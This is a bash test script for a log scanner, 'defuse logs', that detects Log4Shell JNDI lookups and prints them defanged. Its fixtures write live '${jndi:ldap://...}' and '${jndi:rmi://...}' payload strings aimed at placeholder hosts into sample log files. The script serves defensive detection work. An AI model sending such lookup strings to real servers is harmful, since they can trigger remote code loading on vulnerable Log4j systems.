#!/usr/bin/env bash
# logs_output.sh -- how `defuse logs` shows what it found, as rg users
# expect: --line (the matching line, defanged, bounded; "text" in JSON),
# -l (files with findings), -c (findings per file), --heading (the file
# name once above its findings), --since/--until (the line's own time; a
# line without one is kept), and their errors.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
printf '%s\n' \
  '192.0.2.1 - - [09/Dec/2021:13:00:00 +0000] "GET /${jndi:ldap://early.example/a} HTTP/1.1" 404 0' \
  '192.0.2.2 - - [10/Dec/2021:13:00:00 +0000] "GET /${jndi:ldap://late.example/a} HTTP/1.1" 404 0' \
  'no time here ${jndi:ldap://notime.example/a}' > a.log
printf 'x ${jndi:rmi://b.example/z}\n' > b.log
printf 'nothing\n' > c.log
python3 -c 'print("${jndi:ldap://long.example/a} " + "A" * 3000)' > long.log

"$DEFUSE" logs --line a.log > out.txt; expect_rc 1 $? "--line"
expect_grep '    192[.]0[.]2[.]1 - - [09/Dec/2021:13:00:00 +0000] "GET /$\{jndi:ldap[:]//early[.]example/a} HTTP/1.1" 404 0' \
  out.txt "--line shows the matching line, defanged, under its finding"
expect_nogrep '${' out.txt "--line: no live \${"
"$DEFUSE" logs --line long.log > out.txt
expect_grep '...[2518 more bytes]' out.txt "--line: a long line is cut at 512 bytes, the rest counted"
"$DEFUSE" logs --json --line b.log > out.json
python3 -c '
import json; o = json.loads(open("out.json").readline())
assert o["text"] == "x ${jndi:rmi://b.example/z}" and o["line"] == 1, o' \
  && ok "--line --json: the line in \"text\"" || fail "--line --json"
expect_nogrep '$' out.json "--line --json: \$ written as \\u0024"

"$DEFUSE" logs -l a.log b.log c.log > out.txt; expect_rc 1 $? "-l"
[ "$(cat out.txt)" = "$(printf 'a.log\nb.log')" ] && ok "-l: each file with findings once" || fail "-l: $(cat out.txt)"
"$DEFUSE" logs -c a.log b.log c.log > out.txt; expect_rc 1 $? "-c"
[ "$(cat out.txt)" = "$(printf 'a.log:3\nb.log:1')" ] && ok "-c: findings per file" || fail "-c: $(cat out.txt)"
"$DEFUSE" logs -c --json a.log > out.txt
expect_grep '{"file":"a.log","count":3}' out.txt "-c --json"
"$DEFUSE" logs -l -c a.log 2> err.txt; expect_rc 2 $? "-l with -c refused"
"$DEFUSE" logs --heading a.log b.log > out.txt
[ "$(head -2 out.txt)" = "$(printf 'a.log\n1: jndi ldap[:]//early[.]example/a src=192.0.2.1')" ] \
  && ok "--heading: the file once, then LINE: finding" || fail "--heading: $(head -3 out.txt)"
grep -qx 'b.log' out.txt && ok "--heading: the second file's heading" || fail "--heading: no heading for b.log"

"$DEFUSE" logs --since 2021-12-10 a.log > out.txt
expect_nogrep 'early' out.txt "--since: an earlier line is left out"
expect_grep 'late' out.txt "--since: a later line is kept"
expect_grep 'notime' out.txt "--since: a line without a time is kept"
"$DEFUSE" logs --until '2021-12-10T00:00:00Z' a.log > out.txt
expect_grep 'early' out.txt "--until keeps the earlier line"
expect_nogrep 'late' out.txt "--until leaves out the later line"
"$DEFUSE" logs --since 2021-12-11 a.log > /dev/null; expect_rc 1 $? "--since: the kept line without a time still counts"
"$DEFUSE" logs --since 100000d a.log > out.txt; expect_rc 1 $? "--since relative (100000d ago)"
expect_grep 'early' out.txt "--since 100000d keeps 2021"
"$DEFUSE" logs --since soon a.log 2> err.txt; expect_rc 2 $? "--since bad value"
expect_grep "--since: cannot read 'soon'" err.txt "--since error names the option and value"
# -A/-B/-C: the lines around each finding, read again from the file (also
# through decompression); "--" between groups; JSON "type":"context".
seq 1 20 | sed 's/^/plain line /' > c.log
sed -i '5s/.*/x ${jndi:ldap:\/\/five.example\/a}/; 7s/.*/x ${jndi:ldap:\/\/seven.example\/a}/; 15s/.*/x ${jndi:ldap:\/\/fifteen.example\/a}/' c.log
"$DEFUSE" logs -C 2 c.log > out.txt; expect_rc 1 $? "-C 2"
cat > want.txt <<'W'
c.log-3- plain line 3
c.log-4- plain line 4
c.log:5: jndi ldap[:]//five[.]example/a
    x $\{jndi:ldap[:]//five[.]example/a}
c.log-6- plain line 6
c.log:7: jndi ldap[:]//seven[.]example/a
    x $\{jndi:ldap[:]//seven[.]example/a}
c.log-8- plain line 8
c.log-9- plain line 9
--
c.log-13- plain line 13
c.log-14- plain line 14
c.log:15: jndi ldap[:]//fifteen[.]example/a
    x $\{jndi:ldap[:]//fifteen[.]example/a}
c.log-16- plain line 16
c.log-17- plain line 17
W
cmp -s out.txt want.txt && ok "-C 2: context lines, shared between close findings, -- between groups" \
  || fail "-C 2: $(diff want.txt out.txt | head -5)"
gzip -c c.log > c.log.gz
"$DEFUSE" logs -B 1 c.log.gz > out.txt
expect_grep 'c.log.gz-14- plain line 14' out.txt "-B through decompression"
"$DEFUSE" logs -A 1 --json c.log > out.json
python3 -c '
import json; v = [json.loads(l) for l in open("out.json")]
ctx = [o["line"] for o in v if o.get("type") == "context"]
assert ctx == [6, 8, 16], ctx
assert all("kind" in o for o in v if o.get("type") != "context"), v' \
  && ok "-A --json: context objects" || fail "-A --json"
"$DEFUSE" logs -C 1 - < c.log > out.txt 2> err.txt; expect_rc 1 $? "-C on stdin"
expect_grep "cannot be read again" err.txt "-C on stdin: said once that no context is shown"
"$DEFUSE" logs -A x c.log 2> err.txt; expect_rc 2 $? "-A x refused"
expect_grep "-A wants a number" err.txt "-A error names the option"
"$DEFUSE" logs -C 1 -l c.log 2> /dev/null; expect_rc 2 $? "-C with -l refused"
finish
